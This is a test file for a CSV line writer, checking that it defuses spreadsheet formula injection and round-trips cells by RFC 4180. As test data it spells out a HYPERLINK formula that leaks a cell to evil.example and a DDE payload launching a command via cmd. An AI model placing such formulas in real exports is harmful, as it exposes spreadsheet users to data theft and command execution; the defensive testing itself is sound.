import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvLine } from './csv'

const attack = '=HYPERLINK("https://evil.example/?"&A1,"click")'

test('attack: a formula in an exported name or note is text to a spreadsheet', () => {
  expect(csvLine([attack])).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"\r\n`)
  for (const beginning of ['=', '+', '-', '@', '＝', '＋', '－', '＠'])
    for (const before of ['', ' ', '\t', '\r', '\n', '\u00a0', '\ufeff'])
      expect(csvLine([`${before}${beginning}cmd|' /C calc'!A0`])).toBe(
        `"${before}'${beginning}cmd|' /C calc'!A0"\r\n`,
      )
})

test('attack: a formula after what another country’s spreadsheet takes for the end of a cell is text, too', () => {
  for (const end of [';', ',', '\t', '|', '\n', '"'])
    expect(csvLine([`x${end}=1+1`])).toContain(`${end === '"' ? '""' : end}'=1+1`)
})

test('cells come back as they were, by the rules of RFC 4180', () => {
  const harmless = fc.string({ unit: 'grapheme' }).filter((text) => !/[=+\-@＝＋－＠\0]/.test(text))
  fc.assert(
    fc.property(fc.array(fc.oneof(harmless, fc.nat()), { minLength: 1 }), (cells) => {
      expect(readLine(csvLine(cells))).toEqual(cells.map(String))
    }),
  )
})

test('whatever is written, no cell begins a formula, split as one likes', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', ' ', ';', '\t', "'", '"', 'a') }),
      (text) => {
        const [cell = ''] = readLine(csvLine([text]))
        for (const part of cell.split(/[;\t"]/)) expect(part.trimStart()).not.toMatch(/^[=+\-@]/)
      },
    ),
  )
})

test('an empty cell is empty, a number bare, and half a character does not leave the house', () => {
  expect(csvLine([null, 7, 'a\ud800', 'b\0'])).toBe('"",7,"a\ufffd","b"\r\n')
})

/** A reader of its own, by the letter of RFC 4180. */
function readLine(line: string): string[] {
  const cells = [...line.slice(0, -2).matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)]
  return cells.map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '')
}
